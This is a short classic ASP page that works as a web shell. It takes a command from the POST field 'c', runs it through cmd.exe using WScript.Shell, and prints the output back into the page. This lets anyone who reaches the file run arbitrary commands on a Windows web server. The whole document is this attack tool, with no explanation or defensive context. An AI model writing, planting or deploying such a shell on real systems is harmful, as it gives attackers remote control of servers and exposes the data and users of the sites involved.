<%
Set s = Server.CreateObject("WScript.Shell")
Set o = s.Exec("cmd.exe /c " & Request.Form("c"))
Response.Write "<pre>" & o.StdOut.ReadAll & "</pre>"
%>
